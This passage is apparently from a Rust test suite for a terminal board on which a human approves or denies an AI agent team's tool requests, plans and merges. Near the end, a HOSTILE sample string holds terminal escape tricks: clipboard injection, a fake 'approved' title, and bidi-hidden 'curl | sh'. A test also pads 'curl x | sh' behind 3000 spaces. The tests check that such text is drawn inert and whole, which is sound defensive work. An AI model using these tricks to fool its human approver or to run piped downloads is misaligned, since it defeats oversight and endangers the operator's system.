            run: None,
            status: TaskStatus::InProgress,
            owner: Some("builder-1".into()),
            blocked_by: vec![1, 2],
            blocks: Vec::new(),
            created_by: "leader".into(),
            result: None,
            attempts: 1,
            created_at: now,
            updated_at: now,
            started_at: Some(now),
            finished_at: None,
        });
        v.perms.push(PermRequest {
            id: 7,
            agent: "builder-1".into(),
            tool: "bash".into(),
            input: "./publish.sh".into(),
            reason: String::new(),
            ts: now,
            status: PermStatus::Pending,
            decision: None,
        });
        v.push_event(Envelope {
            seq: 1,
            ts: now,
            team_id: "demo".into(),
            agent_id: "builder-1".into(),
            role_name: "worker".into(),
            event: Event::TextMessageContent {
                delta: "Publishing now".into(),
            },
        });
        v
    }

    fn screen(v: &View, w: u16, h: u16) -> String {
        let mut t = Terminal::new(TestBackend::new(w, h)).unwrap();
        t.draw(|f| v.draw(f)).unwrap();
        let buf = t.backend().buffer().clone();
        let mut out = String::new();
        for y in 0..h {
            for x in 0..w {
                out.push_str(buf[(x, y)].symbol());
            }
            out.push('\n');
        }
        out
    }

    #[test]
    fn everything_fits_at_80_by_24() {
        let s = screen(&sample(), 80, 24);
        for needle in [
            "agent-team board · demo",
            "leader",
            "builder-1",
            "waiting",
            "12.3k",
            "$0.0413",
            "#7 builder-1 bash: ./publish.sh",
            "in_progress",
            "Publish the report",
            "1,2",
            "Publishing now",
            "q quit",
        ] {
            assert!(s.contains(needle), "{needle:?} missing from\n{s}");
        }
    }

    #[test]
    fn a_member_in_a_container_shows_its_image_and_caps() {
        let mut v = sample();
        v.agents[1].container = Some(Box::new(agent_team_protocol::ContainerSpec {
            image: "localhost/b:1".into(),
            memory: Some("2G".into()),
            pids: Some(512),
            ..Default::default()
        }));
        let s = screen(&v, 220, 24);
        assert!(
            s.contains("[localhost/b:1 · memory 2G, pids 512]"),
            "missing from\n{s}"
        );
    }

    #[test]
    fn keys_select_and_decide() {
        let mut v = sample();
        let k = |c| KeyEvent::new(c, KeyModifiers::NONE);
        assert_eq!(
            v.key(k(KeyCode::Char('a'))),
            Some(Action::Decide {
                id: 7,
                allow: true,
                always: false,
                reason: None
            })
        );
        assert_eq!(
            v.key(k(KeyCode::Char('A'))),
            Some(Action::Decide {
                id: 7,
                allow: true,
                always: true,
                reason: None
            })
        );
        // Deny asks for a reason first.
        assert_eq!(v.key(k(KeyCode::Char('d'))), None);
        for c in "no!".chars() {
            assert_eq!(v.key(k(KeyCode::Char(c))), None);
        }
        assert!(screen(&v, 80, 24).contains("deny #7, reason"));
        assert_eq!(
            v.key(k(KeyCode::Enter)),
            Some(Action::Decide {
                id: 7,
                allow: false,
                always: false,
                reason: Some("no!".into())
            })
        );
        // Agents: down selects builder-1 (and not past the end).
        v.key(k(KeyCode::Down));
        v.key(k(KeyCode::Down));
        assert_eq!(
            v.key(k(KeyCode::Char('r'))),
            Some(Action::Restart("builder-1".into()))
        );
        assert_eq!(
            v.key(k(KeyCode::Char('k'))),
            Some(Action::Kill("builder-1".into()))
        );
        assert_eq!(
            v.key(k(KeyCode::Enter)),
            Some(Action::Jump("builder-1".into()))
        );
        assert_eq!(v.key(k(KeyCode::Char('q'))), Some(Action::Quit));
        // Nothing pending: a/A/d do nothing.
        v.perms.clear();
        v.clamp();
        assert_eq!(v.key(k(KeyCode::Char('a'))), None);
    }

    #[test]
    fn a_submitted_plan_is_approved_or_rejected_from_the_approvals_list() {
        let mut v = sample();
        let now = Timestamp::from(std::time::SystemTime::now());
        let mut a = AgentInfo::new("planner-1", "architect", "tmux", 1, now);
        a.plan = Some(PlanInfo {
            state: PlanState::Submitted,
            plan: Some("1. read\n2. write report.md".into()),
            submitted_at: Some(now),
            feedback: None,
            decided_by: None,
            submissions: 1,
        });
        v.agents.push(a);
        // A teammate still planning (no plan submitted) is not in the list.
        let mut b = AgentInfo::new("planner-2", "architect", "tmux", 1, now);
        b.plan = Some(PlanInfo::required());
        v.agents.push(b);
        let s = screen(&v, 100, 24);
        assert!(s.contains("Approvals (2)"), "{s}");
        assert!(s.contains("plan of planner-1: 1. read\\n2. write"), "{s}");
        let k = |c| KeyEvent::new(c, KeyModifiers::NONE);
        // The request comes first, the plan second.
        v.key(k(KeyCode::Tab));
        v.key(k(KeyCode::Down));
        v.key(k(KeyCode::Down));
        let approve = Some(Action::DecidePlan {
            agent: "planner-1".into(),
            approve: true,
            feedback: None,
        });
        assert_eq!(v.key(k(KeyCode::Char('a'))), approve);
        assert_eq!(v.key(k(KeyCode::Char('A'))), approve);
        // Reject asks for feedback first.
        assert_eq!(v.key(k(KeyCode::Char('d'))), None);
        for c in "add tests".chars() {
            assert_eq!(v.key(k(KeyCode::Char(c))), None);
        }
        assert!(screen(&v, 100, 24).contains("reject planner-1's plan, feedback"));
        assert_eq!(
            v.key(k(KeyCode::Enter)),
            Some(Action::DecidePlan {
                agent: "planner-1".into(),
                approve: false,
                feedback: Some("add tests".into()),
            })
        );
        // Once decided the plan leaves the list and the selection stays inside it.
        v.agents[2].plan.as_mut().unwrap().state = PlanState::Approved;
        v.clamp();
        assert!(screen(&v, 100, 24).contains("Approvals (1)"));
        assert!(matches!(
            v.key(k(KeyCode::Char('a'))),
            Some(Action::Decide { id: 7, .. })
        ));
    }

    fn work(agent: &str) -> WorkDiff {
        WorkDiff {
            agent: agent.into(),
            branch: format!("agent-team/{agent}"),
            base: Some("main".into()),
            fork: "abc".into(),
            commits: 1,
            uncommitted: false,
            files: vec![
                FileChange {
                    path: "a.txt".into(),
                    added: Some(3),
                    removed: Some(1),
                },
                FileChange {
                    path: "b.txt".into(),
                    added: Some(9),
                    removed: Some(0),
                },
            ],
            control_paths: vec![],
            added: 12,
            removed: 1,
            patch: None,
        }
    }

    /// Issue 28 item 4: a worktree teammate's diffstat is in the agents list; `m` merges the
    /// selected agent's work, `x` discards it after a `y`, any other key keeps it.
    #[test]
    fn worktree_work_is_shown_and_merged_or_discarded_with_keys() {
        let mut v = sample();
        // No work: no WORK column.
        assert!(!screen(&v, 80, 24).contains("WORK"));
        v.work.insert("builder-1".into(), work("builder-1"));
        let s = screen(&v, 80, 24);
        for needle in [
            "WORK",
            "builder-1",
            "+12 -1 2 files",
            "m merge",
            "x discard",
            "q quit",
        ] {
            assert!(s.contains(needle), "{needle:?} missing from\n{s}");
        }
        // A wider terminal has room for the usage beside it.
        let wide = screen(&v, 120, 30);
        for needle in ["+12 -1 2 files", "12.3k", "$0.0413"] {
            assert!(wide.contains(needle), "{needle:?} missing from\n{wide}");
        }
        assert!(s.lines().all(|l| l.chars().count() <= 80), "{s}");
        let k = |c| KeyEvent::new(c, KeyModifiers::NONE);
        // The leader (selected first) has no work: nothing to do, and the board says so.
        assert_eq!(v.key(k(KeyCode::Char('m'))), None);
        assert!(
            v.status.contains("leader has no worktree work"),
            "{}",
            v.status
        );
        v.key(k(KeyCode::Down));
        assert_eq!(
            v.key(k(KeyCode::Char('m'))),
            Some(Action::Finish {
                agent: "builder-1".into(),
                action: FinishAction::Merge
            })
        );
        // `x` asks first; `n` (or any key but y) keeps the work.
        assert_eq!(v.key(k(KeyCode::Char('x'))), None);
        let s = screen(&v, 80, 24);
        assert!(
            s.contains("discard builder-1's work (worktree and branch agent-team/builder-1)? y/N"),
            "{s}"
        );
        assert_eq!(v.key(k(KeyCode::Char('n'))), None);
        assert!(v.confirm.is_none());
        assert!(v.status.contains("kept builder-1's work"));
        assert!(!screen(&v, 80, 24).contains("y/N"));
        assert_eq!(v.key(k(KeyCode::Char('x'))), None);
        assert_eq!(
            v.key(k(KeyCode::Char('y'))),
            Some(Action::Finish {
                agent: "builder-1".into(),
                action: FinishAction::Discard
            })
        );
    }

    /// A conflict's message names the files; the status wraps instead of being cut.
    #[test]
    fn a_long_status_wraps_under_the_title() {
        let mut v = sample();
        v.status = "conflict: merging agent-team/builder-1 into main conflicts in a.txt, b.txt; \
                    main and the workspace are unchanged, agent-team/builder-1 is kept"
            .into();
        let s = screen(&v, 80, 24);
        let flat: String = s
            .lines()
            .take(3)
            .map(str::trim_end)
            .collect::<Vec<_>>()
            .join(" ");
        assert!(flat.contains("conflicts in a.txt, b.txt;"), "{s}");
        assert!(flat.contains("agent-team/builder-1 is kept"), "{s}");
        assert!(s.contains("q quit"), "{s}");
    }

    #[test]
    fn what_a_finish_did_reads_as_one_line() {
        let o = FinishOutcome {
            agent: "a".into(),
            action: FinishAction::Merge,
            branch: "agent-team/a".into(),
            into: Some("main".into()),
            committed: vec!["1234".into()],
            head: Some("0123456789abcdef".into()),
            fast_forward: true,
            removed: true,
            pushed_to: None,
            pr_url: None,
            pr_hint: None,
        };
        assert_eq!(
            finished_text(&o),
            "merged agent-team/a into main at 0123456789 (fast-forward) (1 commit made of its uncommitted changes)"
        );
        let d = FinishOutcome {
            action: FinishAction::Discard,
            ..o
        };
        assert_eq!(finished_text(&d), "discarded agent-team/a");
    }

    /// What an agent could write to act on the operator's terminal or fool them (issue 63):
    /// OSC 52 (clipboard), CSI 2J (clear), OSC 0 (title), C1 CSI, a bidi override, a
    /// zero-width space, a carriage return, a wide character.
    const HOSTILE: &str = "ok\u{1b}]52;c;Y3VybA==\u{7}\u{1b}[2J\u{1b}]0;FAKE: request 9 approved\u{7}\u{9b}31m\u{202e}hs | lruc\u{202c}zero\u{200b}width\rFAKE 界";

    /// Issue 63: every agent-written string the board draws is inert: task titles, a
    /// request's input (whole, with its length, padding counted), plans, agent errors and
    /// events show escapes, C1, bidi and zero-width characters as codes, and nothing of
    /// the command is pushed out of sight.
    #[test]
    fn agent_text_is_drawn_inert_and_whole() {
        let mut v = sample();
        let now = Timestamp::from(std::time::SystemTime::now());
        v.tasks[0].title = HOSTILE.into();
        v.agents[1].error = Some(HOSTILE.into());
        v.perms[0].input = format!("ls -la{}; curl x | sh", " ".repeat(3000));
        v.perms.push(PermRequest {
            id: 8,
            input: HOSTILE.into(),
            ..v.perms[0].clone()
        });
        v.push_event(Envelope {
            seq: 2,
            ts: now,
            team_id: "demo".into(),
            agent_id: "builder-1".into(),
            role_name: "worker".into(),
            event: Event::TextMessageContent {
                delta: format!("{HOSTILE}\ngit status"),
            },
        });
        v.status = HOSTILE.into();
        let s = screen(&v, 220, 40);
        for c in s.chars() {
            assert!(
                c == '\n'
                    || !(c.is_control()
                        || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}')),
                "{c:?} drawn raw in\n{s}"
            );
        }
        for code in [
            "\\u{1b}]52;c;",
            "\\u{1b}[2J",
            "\\u{1b}]0;FAKE",
            "\\u{9b}31m",
            "\\u{202e}hs | lruc",
            "zero\\u{200b}width\\rFAKE 界",
            // The whole command, its padding counted, its length first.
            "#7 builder-1 bash (3019 chars): ls -la␣[3000 spaces]␣; curl x | sh",
            "\\ngit status",
        ] {
            assert!(s.contains(code), "{code:?} missing from\n{s}");
        }
        // A narrow board wraps the command instead of cutting it.
        v.perms.truncate(1);
        v.tasks[0].title = "t".into();
        let s = screen(&v, 80, 30);
        for part in ["(3019 chars)", "ls -la␣[3000 spaces]␣; curl x", "| sh"] {
            assert!(s.contains(part), "{part:?} missing from\n{s}");
        }
    }

    #[test]
    fn wrapping_keeps_every_character() {
        assert_eq!(wrap_at("abcdefg", 3, 2), ["abc", "de", "fg"]);
        assert_eq!(wrap_at("界界界", 3, 2), ["界", "界", "界"]);
        assert_eq!(wrap_at("", 3, 2), [""]);
        assert_eq!(wrap_at("ab", 0, 1), ["a", "b"]);
    }

    #[test]
    fn a_narrow_or_short_terminal_does_not_panic() {
        for (w, h) in [(20, 5), (80, 10), (200, 60), (1, 1)] {
            screen(&sample(), w, h);
        }
    }
}
